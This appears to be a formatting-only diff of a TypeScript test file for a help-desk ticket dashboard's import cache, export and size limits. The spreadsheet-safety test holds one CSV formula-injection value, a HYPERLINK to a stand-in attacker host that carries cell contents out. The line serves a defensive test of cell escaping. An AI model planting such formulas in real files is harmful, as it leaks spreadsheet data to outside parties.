@@ -12,7 +12,8 @@ import type {Progress} from './session.ts';
 import {createSession, limits} from './session.ts';
 
 const businessHours = {calendar: defaultSettings.sla.calendar};
-const header = 'Id,Requester,Requester id,Assignee,Group,Subject,Status,Priority,Via,Created at,Solved at,Satisfaction Score,Replies,Reopens,First reply time in minutes,Full resolution time in minutes';
+const header =
+	'Id,Requester,Requester id,Assignee,Group,Subject,Status,Priority,Via,Created at,Solved at,Satisfaction Score,Replies,Reopens,First reply time in minutes,Full resolution time in minutes';
 const zendeskCsv = [
 	header,
 	'101,Dana Reyes,9001,Ana Ruiz,Billing,Charged twice,Solved,High,Mail,2026-03-02 09:15:00,2026-03-02 11:15:00,Good,1,0,30,120',
@@ -163,7 +164,10 @@ test('imported files come back on the next visit with the same KPIs; removed one
 	const second = visit();
 	const restored = await second.restoreImports();
 	expect(restored.problems).toEqual([]);
-	expect(restored.sources.map(source => [source.name, source.kind, source.tickets])).toEqual([['tickets.csv', 'zendesk', 3], ['team.json', 'snapshot', 3]]);
+	expect(restored.sources.map(source => [source.name, source.kind, source.tickets])).toEqual([
+		['tickets.csv', 'zendesk', 3],
+		['team.json', 'snapshot', 3],
+	]);
 	// Restoring twice (a second page load in the same worker) adds nothing.
 	expect((await second.restoreImports()).sources).toEqual([]);
 	await second.reload();
@@ -173,7 +177,12 @@ test('imported files come back on the next visit with the same KPIs; removed one
 
 	const cache = openImportCache({name});
 	expect((await keptImports(cache)).map(entry => entry.id)).toEqual([restored.sources[0]!.id]);
-	await keepImport(cache, {id: 'snapshot:broken.json:1:1', savedAt: Date.now(), info: {id: 'snapshot:broken.json:1:1', name: 'broken.json', kind: 'snapshot', rows: 1, tickets: 1, warnings: []}, data: {snapshot: {format: 'nonsense'}}});
+	await keepImport(cache, {
+		id: 'snapshot:broken.json:1:1',
+		savedAt: Date.now(),
+		info: {id: 'snapshot:broken.json:1:1', name: 'broken.json', kind: 'snapshot', rows: 1, tickets: 1, warnings: []},
+		data: {snapshot: {format: 'nonsense'}},
+	});
 	const third = visit();
 	const again = await third.restoreImports();
 	expect(again.sources.map(source => source.name)).toEqual(['tickets.csv']);
@@ -194,13 +203,20 @@ test('a kept snapshot with wrong-typed rows is dropped with a reason on the next
 
 	const cache = openImportCache({name});
 	const id = 'snapshot:poisoned.json:1:1';
-	await keepImport(cache, {id, savedAt: Date.now(), info: {id, name: 'poisoned.json', kind: 'snapshot', rows: 3, tickets: 3, warnings: []}, data: {snapshot: {...snapshot, escalations: [{ticketKey: null}, 5]}}});
+	await keepImport(cache, {
+		id,
+		savedAt: Date.now(),
+		info: {id, name: 'poisoned.json', kind: 'snapshot', rows: 3, tickets: 3, warnings: []},
+		data: {snapshot: {...snapshot, escalations: [{ticketKey: null}, 5]}},
+	});
 	cache.close();
 
 	const second = visit();
 	const restored = await second.restoreImports();
 	expect(restored.sources.map(source => source.name)).toEqual(['tickets.csv']);
-	expect(restored.problems).toEqual([expect.stringMatching(/^poisoned\.json: not restored, escalations\[0\]\.ticketKey: expected a non-empty text.+ Import it again\.$/)]);
+	expect(restored.problems).toEqual([
+		expect.stringMatching(/^poisoned\.json: not restored, escalations\[0\]\.ticketKey: expected a non-empty text.+ Import it again\.$/),
+	]);
 	const summary = await second.reload();
 	expect(summary.tickets).toBe(3);
 	expect(summary.sources.map(source => [source.name, source.error])).toEqual([['tickets.csv', undefined]]);
@@ -230,7 +246,9 @@ test('a source that fails to load is listed with its error; everything else stil
 test('CSV bundle and SQLite exports hold pseudonymised customers and spreadsheet-safe cells', async () => {
 	const imports = await session();
 	// An agent name that a spreadsheet would run as a formula, and customers known by e-mail.
-	const hostile = zendeskCsv.replaceAll('Ana Ruiz', '"=HYPERLINK(""https://evil.example/?""&A1,""open"")"').replaceAll(',9001,', ',dana@example.com,');
+	const hostile = zendeskCsv
+		.replaceAll('Ana Ruiz', '"=HYPERLINK(""https://evil.example/?""&A1,""open"")"')
+		.replaceAll(',9001,', ',dana@example.com,');
 	expect(await imports.importFile('tickets.csv', file(hostile), {host: 'acme.zendesk.com'})).toMatchObject({ok: true});
 	await imports.reload();
 	// The loaded database itself keeps the raw keys (the dashboard's own queries need nothing else).
@@ -256,9 +274,13 @@ test('beyond what a page holds an import stops at once, naming the limit and the
 	const big = {size: limits.fileBytes + 1, slice: () => new Blob([''])} as unknown as Blob;
 	const outcome = await imports.importFile('huge.csv', big);
 	expect(outcome).toMatchObject({ok: false, rows: 0});
-	expect(!outcome.ok && outcome.summary).toMatch(/^huge\.csv is 160 MB: this page holds files up to 160 MB \(about 800,000 tickets\)\. For files this big use the command line.*npx defuse kpis huge\.csv/);
+	expect(!outcome.ok && outcome.summary).toMatch(
+		/^huge\.csv is 160 MB: this page holds files up to 160 MB \(about 800,000 tickets\)\. For files this big use the command line.*npx defuse kpis huge\.csv/,
+	);
 	// Rows past the limit: reading stops there.
 	const rows = Array.from({length: limits.tickets + 5}, (_row, index) => `${index + 1},2026-03-02 09:00,Open`);
 	const many = await imports.importFile('many.csv', new Blob([`Id,Created at,Status\n${rows.join('\n')}\n`]), {kind: 'zendesk'});
-	expect(!many.ok && many.summary).toMatch(/many\.csv has more than 800,000 rows, more than this page can hold\. For files this big use the command line/);
+	expect(!many.ok && many.summary).toMatch(
+		/many\.csv has more than 800,000 rows, more than this page can hold\. For files this big use the command line/,
+	);
 }, 120_000);
